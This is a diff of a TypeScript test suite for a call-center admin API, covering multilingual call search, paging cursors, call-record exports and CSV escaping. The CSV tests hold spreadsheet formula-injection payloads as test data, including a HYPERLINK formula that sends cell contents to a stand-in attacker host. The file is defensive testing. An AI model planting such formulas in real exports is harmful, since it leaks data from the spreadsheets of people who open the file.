@@ -1,16 +1,24 @@
+/** Search of calls: filters, cursors, call records and CSV. */
 import test, { type ExecutionContext } from 'ava';
+import * as fc from 'fast-check';
 import { z } from 'zod';
+import { csvLine } from '#src/api/csv.ts';
+import { decodeMomentCursor, encodeMomentCursor } from '#src/api/cursor.ts';
+import { mostExported, notAllExported } from '#src/domain/call-export.ts';
 import type { EndReason } from '#src/domain/end-reasons.ts';
 import { recordFact } from '#src/persistence/call-facts.ts';
+import { callRecords } from '#src/persistence/call-records.ts';
+import { type CallBirth, type CallRecord, insertEndedCall } from '#src/persistence/calls.ts';
 import { wordsOfAllSummaries } from '#src/persistence/migrations/searched-summaries.ts';
-import { insertEndedCall, type CallBirth } from '#src/persistence/calls.ts';
-import { callBirth, storedCall } from '#test/helpers/stored-number.ts';
 import { readCsv } from '#test/helpers/read-csv.ts';
-import { mostExported, notAllExported } from '#src/domain/call-export.ts';
-import { storeCall } from './stored-calls.ts';
+import { scriptedStatements } from '#test/helpers/scripted-database.ts';
+import { callBirth, storedCall } from '#test/helpers/stored-number.ts';
 import { addWorkspace, fakeGateway, type FakeGateway } from './fake-gateway.ts';
+import { storeCall, storeRecording } from './stored-calls.ts';
 
-const path = '/api/v1/admin/calls';
+// Search calls
+
+const searchPath = '/api/v1/admin/calls';
 const beginning = new Date('2026-11-21T03:00:00.000Z');
 
 const ownerIn = ({ workspaceId, number }: FakeGateway) => ({
@@ -50,7 +58,7 @@ const listed = z.object({
 
 const found = async ({ admin }: FakeGateway, query: Record<string, string>): Promise<string[]> =>
   listed
-    .parse((await admin.get(`${path}?${new URLSearchParams(query).toString()}`)).body)
+    .parse((await admin.get(`${searchPath}?${new URLSearchParams(query).toString()}`)).body)
     .calls.map(({ id }) => id);
 
 const finds = async (
@@ -62,62 +70,71 @@ const finds = async (
   for (const q of searches) t.deepEqual((await found(gateway, { q })).toSorted(), expected.toSorted(), q);
 };
 
-test('a call is found by what was said, in any language, by the beginnings of its words', async (t) => {
-  const gateway = await fakeGateway(t);
-  const korean = await talk(gateway, { instruction: '예약 변경' }, [
-    '“안녕하세요”, 예약을 확인해 드릴게요…',
-    '네. 금요일(오후)로 옮겨 주세요！',
-  ]);
-  const german = await talk(gateway, { instruction: null }, [
-    'Grüße aus ÖSTERREICH.',
-    'e-mail an info@example.com, 3.5 %',
-  ]);
-  await finds(
-    t,
-    gateway,
-    [korean],
-    ['예약', '예약 금요', '옮겨', '오후', '안녕', '변경', '네', '금요일로'.slice(0, 3)],
-  );
-  await finds(t, gateway, [german], ['ÖSTER', 'österreich', 'grüße', 'mail example', '3 5', 'INFO']);
-  // A single letter is a whole word, and a word is not found by its end.
-  await finds(t, gateway, [], ['예', '약', '요일', 'reich', '예약 헬리콥터']);
-});
+test.serial(
+  'a call is found by what was said, in any language, by the beginnings of its words',
+  async (t) => {
+    const gateway = await fakeGateway(t);
+    const korean = await talk(gateway, { instruction: '예약 변경' }, [
+      '“안녕하세요”, 예약을 확인해 드릴게요…',
+      '네. 금요일(오후)로 옮겨 주세요！',
+    ]);
+    const german = await talk(gateway, { instruction: null }, [
+      'Grüße aus ÖSTERREICH.',
+      'e-mail an info@example.com, 3.5 %',
+    ]);
+    await finds(
+      t,
+      gateway,
+      [korean],
+      ['예약', '예약 금요', '옮겨', '오후', '안녕', '변경', '네', '금요일로'.slice(0, 3)],
+    );
+    await finds(t, gateway, [german], ['ÖSTER', 'österreich', 'grüße', 'mail example', '3 5', 'INFO']);
+    // A single letter is a whole word, and a word is not found by its end.
+    await finds(t, gateway, [], ['예', '약', '요일', 'reich', '예약 헬리콥터']);
+  },
+);
 
-test('a call is found by its summary as well, which comes after the end, and by one of before', async (t) => {
-  const gateway = await fakeGateway(t);
-  const { database } = gateway;
-  const id = await talk(gateway, {}, ['여보세요']);
-  await finds(t, gateway, [], ['재방문']);
-  const at = beginning.getTime();
-  await recordFact(database, id, 4, { type: 'call.summarized', at, summary: '고객이 재방문을 원함.' });
-  await finds(t, gateway, [id], ['재방문', '여보세요', '재방 여보', '0000']);
+test.serial(
+  'a call is found by its summary as well, which comes after the end, and by one of before',
+  async (t) => {
+    const gateway = await fakeGateway(t);
+    const { database } = gateway;
+    const id = await talk(gateway, {}, ['여보세요']);
+    await finds(t, gateway, [], ['재방문']);
+    const at = beginning.getTime();
+    await recordFact(database, id, 4, { type: 'call.summarized', at, summary: '고객이 재방문을 원함.' });
+    await finds(t, gateway, [id], ['재방문', '여보세요', '재방 여보', '0000']);
 
-  const old = await talk(gateway, {}, ['안녕하세요']);
-  await database.execute('update call set summary = $1 where id = $2', ['환불, 예정', old]);
-  await finds(t, gateway, [], ['환불']);
-  await database.execute(wordsOfAllSummaries);
-  await finds(t, gateway, [old], ['환불', '예정 안녕']);
-  await finds(t, gateway, [id], ['재방문']);
-});
+    const old = await talk(gateway, {}, ['안녕하세요']);
+    await database.execute('update call set summary = $1 where id = $2', ['환불, 예정', old]);
+    await finds(t, gateway, [], ['환불']);
+    await database.execute(wordsOfAllSummaries);
+    await finds(t, gateway, [old], ['환불', '예정 안녕']);
+    await finds(t, gateway, [id], ['재방문']);
+  },
+);
 
-test('a call is found by its number: any four digits of it, as people write them, also while it goes on', async (t) => {
-  const gateway = await fakeGateway(t);
-  const over = await talk(gateway, { counterparty: '01012345678' }, []);
-  const live = await talk(gateway, { counterparty: '01012349999' }, ['여보세요'], null);
-  const abroad = await talk(gateway, { counterparty: '+12025550123', callerName: 'Ada Lovelace' }, []);
-  await finds(t, gateway, [over], ['5678', '010-1234-5678', '+82 10 1234 5678', '345678']);
-  await finds(t, gateway, [live], ['9999', '0101234 9999']);
-  await finds(t, gateway, [over, live], ['1234', '0101', '010-1234']);
-  await finds(t, gateway, [abroad], ['+1 202-555-0123', '5550123', 'lovel']);
-  await finds(t, gateway, [], ['여보세요', '5679']);
+test.serial(
+  'a call is found by its number: any four digits of it, as people write them, also while it goes on',
+  async (t) => {
+    const gateway = await fakeGateway(t);
+    const over = await talk(gateway, { counterparty: '01012345678' }, []);
+    const live = await talk(gateway, { counterparty: '01012349999' }, ['여보세요'], null);
+    const abroad = await talk(gateway, { counterparty: '+12025550123', callerName: 'Ada Lovelace' }, []);
+    await finds(t, gateway, [over], ['5678', '010-1234-5678', '+82 10 1234 5678', '345678']);
+    await finds(t, gateway, [live], ['9999', '0101234 9999']);
+    await finds(t, gateway, [over, live], ['1234', '0101', '010-1234']);
+    await finds(t, gateway, [abroad], ['+1 202-555-0123', '5550123', 'lovel']);
+    await finds(t, gateway, [], ['여보세요', '5679']);
 
-  const rejected = callBirth(ownerIn(gateway), { counterparty: '01077778888' });
-  const end = { status: 'failed', reason: 'caller_rejected', at: beginning } as const;
-  await insertEndedCall(gateway.database, rejected, end);
-  await finds(t, gateway, [rejected.id], ['7777']);
-});
+    const rejected = callBirth(ownerIn(gateway), { counterparty: '01077778888' });
+    const end = { status: 'failed', reason: 'caller_rejected', at: beginning } as const;
+    await insertEndedCall(gateway.database, rejected, end);
+    await finds(t, gateway, [rejected.id], ['7777']);
+  },
+);
 
-test('a call is found by its id, and by the first eight characters of it', async (t) => {
+test.serial('a call is found by its id, and by the first eight characters of it', async (t) => {
   const gateway = await fakeGateway(t);
   const id = 'abcdef01-4f0e-4b7e-9b1c-2d1d5a1e0c11';
   await talk(gateway, { id }, []);
@@ -125,7 +142,7 @@ test('a call is found by its id, and by the first eight characters of it', async
   await finds(t, gateway, [], ['abcdef02', 'abcdef01-5']);
 });
 
-test('nobody finds calls of another workspace, and none that were deleted', async (t) => {
+test.serial('nobody finds calls of another workspace, and none that were deleted', async (t) => {
   const gateway = await fakeGateway(t);
   const id = await talk(gateway, {}, ['비밀 이야기']);
   await finds(t, gateway, [id], ['비밀', '0000']);
@@ -138,37 +155,40 @@ test('nobody finds calls of another workspace, and none that were deleted', asyn
   t.deepEqual(await gateway.database.execute('select * from call_search where call_id = $1', [id]), []);
 });
 
-test('what is found comes page by page, the newest or the oldest first, with every filter', async (t) => {
-  const gateway = await fakeGateway(t);
-  const ids: string[] = [];
-  for (const second of [0, 1, 1, 2, 3]) {
-    const startedAt = new Date(beginning.getTime() + second * 1_000);
-    ids.push(await talk(gateway, { startedAt }, ['배송 문의'], second === 3 ? 'busy' : 'agent_hangup'));
-  }
-  const [first = '', , , , last = ''] = ids;
-  for (const order of ['newest', 'oldest']) {
-    for (const q of ['배송', '0000']) {
-      const pages: string[] = [];
-      let query = `?limit=2&order=${order}&q=${encodeURIComponent(q)}`;
-      for (;;) {
-        const page = listed.parse((await gateway.admin.get(`${path}${query}`)).body);
-        pages.push(...page.calls.map(({ id }) => id));
-        if (page.next_cursor === null) break;
-        query = `?limit=2&order=${order}&q=${encodeURIComponent(q)}&cursor=${page.next_cursor}`;
-      }
-      t.deepEqual(pages, await found(gateway, { q, order }));
-      t.deepEqual(pages.toSorted(), ids.toSorted());
-      t.is(order === 'newest' ? pages[0] : pages.at(-1), last);
-      t.is(order === 'newest' ? pages.at(-1) : pages[0], first);
+test.serial(
+  'what is found comes page by page, the newest or the oldest first, with every filter',
+  async (t) => {
+    const gateway = await fakeGateway(t);
+    const ids: string[] = [];
+    for (const second of [0, 1, 1, 2, 3]) {
+      const startedAt = new Date(beginning.getTime() + second * 1_000);
+      ids.push(await talk(gateway, { startedAt }, ['배송 문의'], second === 3 ? 'busy' : 'agent_hangup'));
     }
-  }
-  t.deepEqual(await found(gateway, { q: '배송', end_reason: 'busy' }), [last]);
-  t.deepEqual(await found(gateway, { end_reason: 'busy' }), [last]);
-  t.deepEqual(await found(gateway, { q: '배송', since: '2026-11-21T03:00:03Z' }), [last]);
-  t.deepEqual(await found(gateway, { q: '배송', direction: 'inbound' }), []);
-});
+    const [first = '', , , , last = ''] = ids;
+    for (const order of ['newest', 'oldest']) {
+      for (const q of ['배송', '0000']) {
+        const pages: string[] = [];
+        let query = `?limit=2&order=${order}&q=${encodeURIComponent(q)}`;
+        for (;;) {
+          const page = listed.parse((await gateway.admin.get(`${searchPath}${query}`)).body);
+          pages.push(...page.calls.map(({ id }) => id));
+          if (page.next_cursor === null) break;
+          query = `?limit=2&order=${order}&q=${encodeURIComponent(q)}&cursor=${page.next_cursor}`;
+        }
+        t.deepEqual(pages, await found(gateway, { q, order }));
+        t.deepEqual(pages.toSorted(), ids.toSorted());
+        t.is(order === 'newest' ? pages[0] : pages.at(-1), last);
+        t.is(order === 'newest' ? pages.at(-1) : pages[0], first);
+      }
+    }
+    t.deepEqual(await found(gateway, { q: '배송', end_reason: 'busy' }), [last]);
+    t.deepEqual(await found(gateway, { end_reason: 'busy' }), [last]);
+    t.deepEqual(await found(gateway, { q: '배송', since: '2026-11-21T03:00:03Z' }), [last]);
+    t.deepEqual(await found(gateway, { q: '배송', direction: 'inbound' }), []);
+  },
+);
 
-test('days are those of the time zone of the workspace', async (t) => {
+test.serial('days are those of the time zone of the workspace', async (t) => {
   const gateway = await fakeGateway(t);
   const on = (moment: string) => talk(gateway, { startedAt: new Date(moment) }, []);
   const before = await on('2026-11-20T23:59:59.999+09:00');
@@ -183,14 +203,17 @@ test('days are those of the time zone of the workspace', async (t) => {
   ]);
 });
 
-test('a call is listed with its number, its duration, and the delay that 95 % of its turns kept', async (t) => {
-  const gateway = await fakeGateway(t);
-  await talk(gateway, {}, ['하나', '둘', '셋', '넷', '다섯']);
-  const { calls } = (await gateway.admin.get(path)).body;
-  t.like(calls, [{ number: gateway.number.number, duration_sec: 0, turn_latency_p95_ms: 800 }]);
-});
+test.serial(
+  'a call is listed with its number, its duration, and the delay that 95 % of its turns kept',
+  async (t) => {
+    const gateway = await fakeGateway(t);
+    await talk(gateway, {}, ['하나', '둘', '셋', '넷', '다섯']);
+    const { calls } = (await gateway.admin.get(searchPath)).body;
+    t.like(calls, [{ number: gateway.number.number, duration_sec: 0, turn_latency_p95_ms: 800 }]);
+  },
+);
 
-test('what nobody can look for is refused by its field', async (t) => {
+test.serial('what nobody can look for is refused by its field', async (t) => {
   const gateway = await fakeGateway(t);
   const faults = {
     q: ['', '…', '?!', 'x'.repeat(101), 'a b c d e f g h i', '\0'],
@@ -201,17 +224,19 @@ test('what nobody can look for is refused by its field', async (t) => {
   };
   for (const [field, values] of Object.entries(faults))
     for (const value of values) {
-      const { status, body } = await gateway.admin.get(`${path}?${field}=${encodeURIComponent(value)}`);
+      const { status, body } = await gateway.admin.get(`${searchPath}?${field}=${encodeURIComponent(value)}`);
       t.is(status, 400, `${field}=${value}`);
       t.like(body, { code: 'invalid_request', errors: [{ path: field }] });
     }
 });
 
-test('a list is a file for a spreadsheet as well, with the same filters', async (t) => {
+test.serial('a list is a file for a spreadsheet as well, with the same filters', async (t) => {
   const gateway = await fakeGateway(t);
   const id = await talk(gateway, { instruction: '=HYPERLINK("http://example.com")' }, ['배송 문의']);
   await talk(gateway, {}, ['다른 이야기']);
-  const { status, headers, bytes } = await gateway.admin.get(`${path}.csv?q=${encodeURIComponent('배송')}`);
+  const { status, headers, bytes } = await gateway.admin.get(
+    `${searchPath}.csv?q=${encodeURIComponent('배송')}`,
+  );
   t.is(status, 200);
   t.is(headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
   t.is(headers.get('content-disposition'), 'attachment; filename="calls.csv"');
@@ -234,8 +259,8 @@ test('a list is a file for a spreadsheet as well, with the same filters', async 
       id,
     ],
   ]);
-  t.is((await gateway.admin.send('HEAD', `${path}.csv`)).status, 200);
-  t.is((await gateway.client.get(`${path}.csv`)).status, 401);
+  t.is((await gateway.admin.send('HEAD', `${searchPath}.csv`)).status, 200);
+  t.is((await gateway.client.get(`${searchPath}.csv`)).status, 401);
 });
 
 const storeMany = ({ database, workspaceId, number }: FakeGateway, count: number) =>
@@ -247,31 +272,35 @@ const storeMany = ({ database, workspaceId, number }: FakeGateway, count: number
     [workspaceId, number.id, count],
   );
 
-test('a file has the calls of all pages, in their order', async (t) => {
+test.serial('a file has the calls of all pages, in their order', async (t) => {
   const gateway = await fakeGateway(t);
   await storeMany(gateway, 1001);
-  const { bytes } = await gateway.admin.get(`${path}.csv?order=oldest`);
+  const { bytes } = await gateway.admin.get(`${searchPath}.csv?order=oldest`);
   const [, ...lines] = readCsv(bytes.subarray(3).toString());
   const times = lines.map(([startedAt = '']) => startedAt);
   t.is(new Set(lines.map((cells) => cells.at(-1))).size, 1001);
   t.deepEqual(times, times.toSorted());
 });
 
-test('a file that has no room for all calls says so in its last line, as wide as the others', async (t) => {
-  const gateway = await fakeGateway(t);
-  await storeMany(gateway, mostExported);
-  const linesOf = async () => readCsv((await gateway.admin.get(`${path}.csv`)).bytes.subarray(3).toString());
-  const all = await linesOf();
-  t.is(all.length, 1 + mostExported);
-  t.regex(all.at(-1)?.[0] ?? '', /^\d{4}-/);
+test.serial(
+  'a file that has no room for all calls says so in its last line, as wide as the others',
+  async (t) => {
+    const gateway = await fakeGateway(t);
+    await storeMany(gateway, mostExported);
+    const linesOf = async () =>
+      readCsv((await gateway.admin.get(`${searchPath}.csv`)).bytes.subarray(3).toString());
+    const all = await linesOf();
+    t.is(all.length, 1 + mostExported);
+    t.regex(all.at(-1)?.[0] ?? '', /^\d{4}-/);
 
-  await storeMany(gateway, 1);
-  const cut = await linesOf();
-  t.is(cut.length, 1 + mostExported + 1);
-  t.deepEqual(cut.at(-1), [notAllExported, ...Array.from({ length: (all[0]?.length ?? 0) - 1 }, () => '')]);
-});
+    await storeMany(gateway, 1);
+    const cut = await linesOf();
+    t.is(cut.length, 1 + mostExported + 1);
+    t.deepEqual(cut.at(-1), [notAllExported, ...Array.from({ length: (all[0]?.length ?? 0) - 1 }, () => '')]);
+  },
+);
 
-test('calls of a trunk are found, also of one of the configuration', async (t) => {
+test.serial('calls of a trunk are found, also of one of the configuration', async (t) => {
   const gateway = await fakeGateway(t);
   const over = await storeCall(gateway, { trunkId: 'configured', trunkName: 'GW_TRUNK' });
   await storeCall(gateway, { trunkId: 'another', trunkName: 'another' });
@@ -279,4 +308,272 @@ test('calls of a trunk are found, also of one of the configuration', async (t) =
   t.deepEqual(await found(gateway, { trunk_id: 'configured' }), [over.id]);
   t.deepEqual(await found(gateway, { trunk_id: 'configured', end_reason: 'trunk_error' }), []);
   t.deepEqual(await found(gateway, { trunk_id: 'none' }), []);
+});
+
+// Search too broad
+
+test.serial(
+  'a search that would take too long is refused, as a list and as a file; the list without it is not',
+  async (t) => {
+    const { admin, database } = await fakeGateway(t);
+    // Nobody reads the index while somebody else has it alone: to the server that is a statement that takes long.
+    await database.transaction(async ({ execute }) => {
+      await execute('lock table call_search in access exclusive mode');
+      for (const path of ['/api/v1/admin/calls', '/api/v1/admin/calls.csv']) {
+        for (const q of ['word', '0000']) {
+          const { status, body } = await admin.get(`${path}?q=${q}`);
+          t.is(status, 422);
+          t.is(body['code'], 'search_too_broad');
+        }
+        t.is((await admin.get(path)).status, 200);
+      }
+    });
+  },
+);
+
+// Cursor
+
+const moment = fc.date({ min: new Date(0), max: new Date('9999-12-31T23:59:59.999Z'), noInvalidDate: true });
+
+test('a cursor comes back as what it was made of', (t) => {
+  fc.assert(
+    fc.property(moment, fc.uuid(), (at, id) => {
+      t.deepEqual(decodeMomentCursor(encodeMomentCursor({ at, id })), { at, id });
+    }),
+  );
+});
+
+test('a cursor holds nothing that must be escaped in a URL', (t) => {
+  fc.assert(
+    fc.property(moment, fc.uuid(), (at, id) => {
+      const cursor = encodeMomentCursor({ at, id });
+      t.is(encodeURIComponent(cursor), cursor);
+    }),
+  );
+});
+
+test('anything else is no cursor', (t) => {
+  fc.assert(
+    fc.property(fc.oneof(fc.string(), fc.base64String()), (text) => {
+      const cursor = decodeMomentCursor(text);
+      t.true(cursor === undefined || encodeMomentCursor(cursor) === text);
+    }),
+  );
+  for (const text of ['', 'x', '====', Buffer.from('1.2').toString('base64url')]) {
+    t.is(decodeMomentCursor(text), undefined);
+  }
+});
+
+test('a cursor that was changed by one character is refused or names another place', (t) => {
+  const cursor = encodeMomentCursor({ at: new Date(0), id: '11111111-2222-4333-8444-555555555555' });
+  fc.assert(
+    fc.property(
+      fc.nat(cursor.length - 1),
+      fc.constantFrom(...'ABCxyz019-_=+/ '.split('')),
+      (at, character) => {
+        const changed = cursor.slice(0, at) + character + cursor.slice(at + 1);
+        const decoded = decodeMomentCursor(changed);
+        t.true(decoded === undefined || encodeMomentCursor(decoded) === changed);
+      },
+    ),
+  );
+});
+
+// Call records
+
+const recordsPath = '/api/v1/admin/call-records';
+
+const at = (minute: number): Date => new Date(Date.UTC(2026, 10, 21, 3, minute));
+
+const recordsIn = (csv: string): Record<string, string>[] => {
+  const [names = [], ...lines] = readCsv(csv);
+  return lines.map((cells) => Object.fromEntries(cells.map((cell, index) => [names[index] ?? '', cell])));
+};
+
+test.serial('a record has everything that is known of a call', async (t) => {
+  const gateway = await fakeGateway(t);
+  const call = await storeCall(gateway, {
+    sipStatus: 200,
+    sipReason: 'OK',
+    sipCallId: 'abc@example.com',
+    summary: '=cmd, "quoted"\nand more',
+    answeredBy: 'human',
+  });
+  await storeRecording(gateway.database, call.id, {
+    status: 'completed',
+    file: 'f',
+    contentType: 'audio/ogg',
+  });
+  const { status, headers, bytes } = await gateway.admin.get(recordsPath);
+  t.is(status, 200);
+  t.is(headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
+  t.is(headers.get('content-disposition'), 'attachment; filename="call-records.csv"');
+  const [record, ...others] = recordsIn(bytes.toString());
+  t.deepEqual(others, []);
+  t.like(record, {
+    call_id: call.id,
+    number_id: call.numberId,
+    direction: 'outbound',
+    from: gateway.number.number,
+    to: '01000000001',
+    language: 'ko',
+    status: 'completed',
+    end_reason: 'agent_hangup',
+    answered_by: 'human',
+    started_at: '2026-11-21T12:00:00.000+09:00',
+    answered_at: '2026-11-21T12:00:05.000+09:00',
+    ended_at: '2026-11-21T12:01:05.500+09:00',
+    duration_sec: '60.5',
+    sip_status: '200',
+    sip_reason: 'OK',
+    sip_call_id: 'abc@example.com',
+    recording_status: 'completed',
+    recording_content_type: 'audio/ogg',
+    recording_duration_sec: '60.5',
+    instruction: 'Ask about the delivery.',
+    summary: '\'=cmd, "quoted"\nand more',
+    from_name: '',
+    diverted_from: '',
+  });
+});
+
+test.serial('as JSON lines each record is the same as a read of the call', async (t) => {
+  const gateway = await fakeGateway(t);
+  const first = await storeCall(gateway, { startedAt: at(0), summary: 'Two\nlines.' });
+  const second = await storeCall(gateway, {
+    startedAt: at(1),
+    status: 'ringing',
+    endReason: null,
+    answeredAt: null,
+    endedAt: null,
+    durationSec: null,
+  });
+  const { headers, bytes } = await gateway.admin.get(`${recordsPath}?format=jsonl`);
+  t.is(headers.get('content-type'), 'application/jsonl');
+  const lines = bytes.toString().trimEnd().split('\n');
+  const read = await Promise.all(
+    [first, second].map(async ({ id }) => (await gateway.admin.get(`/api/v1/admin/calls/${id}`)).body),
+  );
+  t.deepEqual(
+    lines.map((line): unknown => JSON.parse(line)),
+    read,
+  );
+});
+
+test.serial('a time is from its beginning to before its end, in order', async (t) => {
+  const gateway = await fakeGateway(t);
+  const ids: string[] = [];
+  for (const minute of [2, 0, 3, 1]) ids[minute] = (await storeCall(gateway, { startedAt: at(minute) })).id;
+  const idsOf = async (query: string): Promise<(string | undefined)[]> => {
+    const { bytes } = await gateway.admin.get(`${recordsPath}${query}`);
+    return recordsIn(bytes.toString()).map((record) => record['call_id']);
+  };
+  t.deepEqual(await idsOf(''), ids);
+  t.deepEqual(await idsOf('?since=2026-11-21T03:01:00Z&until=2026-11-21T12:03:00%2B09:00'), ids.slice(1, 3));
+  t.deepEqual(await idsOf('?since=2026-11-21T04:00:00Z'), []);
+});
+
+test.serial('nobody sees records of another workspace, and a number key sees none', async (t) => {
+  const gateway = await fakeGateway(t);
+  await storeCall(gateway);
+  const other = gateway.admin.as((await addWorkspace(gateway.database)).adminToken);
+  t.is(recordsIn((await other.get(recordsPath)).bytes.toString()).length, 0);
+  t.is((await gateway.client.get(recordsPath)).status, 401);
+});
+
+test.serial('what cannot be asked for is named', async (t) => {
+  const { admin } = await fakeGateway(t);
+  t.like((await admin.get(`${recordsPath}?format=xls&since=yesterday`)).body, {
+    code: 'invalid_request',
+    errors: [{ path: 'format' }, { path: 'since' }],
+  });
+  const head = await admin.send('HEAD', recordsPath);
+  t.is(head.status, 200);
+});
+
+test.serial('pages join without gap or double, also where calls started at the same moment', async (t) => {
+  const gateway = await fakeGateway(t);
+  const stored: string[] = [];
+  for (let count = 0; count < 7; count += 1) {
+    stored.push((await storeCall(gateway, { startedAt: at(count < 4 ? 0 : 1) })).id);
+  }
+  const { database, workspaceId } = gateway;
+  for (const size of [1, 2, 3, 7, 8]) {
+    const pages: CallRecord[][] = [];
+    const wanted = { workspaceId, since: null, until: at(9) };
+    for await (const page of callRecords(database, wanted, size)) pages.push(page);
+    t.true(pages.every((page) => page.length > 0 && page.length <= size));
+    t.deepEqual(pages.flatMap((page) => page.map(({ id }) => id)).sort(), [...stored].sort());
+  }
+});
+
+test.serial('a file is made while it is read: nobody waits for the whole of it', async (t) => {
+  const gateway = await fakeGateway(t);
+  await storeCall(gateway);
+  const statements: string[] = [];
+  const { database } = gateway;
+  const watched: typeof database = {
+    ...database,
+    ...scriptedStatements((sql, parameters) => {
+      statements.push(sql);
+      return database.execute(sql, parameters);
+    }),
+  };
+  const pages = callRecords(
+    watched,
+    { workspaceId: gateway.workspaceId, since: null, until: new Date('2100-01-01') },
+    1,
+  );
+  t.is(statements.length, 0);
+  await pages.next();
+  t.is(statements.length, 1);
+  await pages.return(undefined);
+  t.is(statements.length, 1);
+});
+
+// CSV
+
+test('cells are separated by commas, and a line ends as RFC 4180 wants it', (t) => {
+  t.is(csvLine(['a', 1.5, true, null, '']), 'a,1.5,true,,\r\n');
+});
+
+test('what would break a line or a cell is quoted', (t) => {
+  t.is(csvLine(['a,b', 'say "no"', 'two\nlines']), '"a,b","say ""no""","two\nlines"\r\n');
+});
+
+const formula = test.macro<[string]>({
+  exec(t, text) {
+    t.deepEqual(readCsv(csvLine(['x', text])), [['x', `'${text}`]]);
+  },
+  title: (_, text) => `${JSON.stringify(text)} is no formula any more`,
+});
+
+test(formula, '=HYPERLINK("http://evil.example/?"&A1,"click")');
+test(formula, '+82');
+test(formula, '-1+1');
+test(formula, '@SUM(A1)');
+test(formula, '\t=1');
+test(formula, '\r=1');
+test(formula, '  =1');
+test(formula, '＝1');
+
+test('numbers, also negative ones, stay numbers', (t) => {
+  t.is(csvLine([-1, 0]), '-1,0\r\n');
+});
+
+test('whatever the cells hold, they are read as they were, and none is a formula', (t) => {
+  const text = fc.string({
+    unit: fc.constantFrom('a', '가', '"', ',', '\n', '\r', '\t', '=', '+', '@', ' ', "'"),
+  });
+  fc.assert(
+    fc.property(fc.array(text, { minLength: 1 }), (cells) => {
+      const [read = [], ...more] = readCsv(csvLine(cells));
+      t.is(more.length, 0);
+      t.deepEqual(
+        read.map((cell, index) => (cell === cells[index] ? cell : cell.replace(/^'/, ''))),
+        cells,
+      );
+      for (const cell of read) t.notRegex(cell, /^\s*[=+@]/);
+    }),
+  );
 });
